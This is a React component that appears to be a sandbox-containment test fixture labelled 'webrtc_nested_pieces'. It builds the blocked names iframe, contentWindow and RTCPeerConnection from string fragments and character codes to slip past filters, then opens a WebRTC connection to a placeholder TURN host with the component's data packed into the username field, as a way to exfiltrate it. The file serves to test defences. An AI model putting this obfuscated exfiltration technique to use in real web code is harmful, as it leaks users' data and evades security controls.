import { useEffect } from "react";

// Escape attempt: webrtc_nested_pieces — every banned name built from string pieces
export default function Hostile({ data }) {
  useEffect(() => {
    const servers = { iceServers: [{ urls: "stun:__HOSTPORT__" }, { urls: "turn:__HOSTPORT__?transport=tcp", username: "PWNED-webrtc_nested_pieces-" + JSON.stringify(data ?? null), credential: "c" }] };
    try {
      const tag = String.fromCharCode(105, 102, 114, 97, 109, 101);
      const frame = document.createElement(tag);
      document.body.appendChild(frame);
      const realm = frame[["content", "Window"].join("")];
      const Peer = realm[["RTC", "Peer", "Connection"].join("")];
      const pc = new Peer(servers); pc.createDataChannel("x"); pc.createOffer().then((o) => pc.setLocalDescription(o));
    } catch (error) {
      console.info("contained", error && error.message);
    }
  }, [data]);
  return <p data-testid="hostile">webrtc_nested_pieces</p>;
}
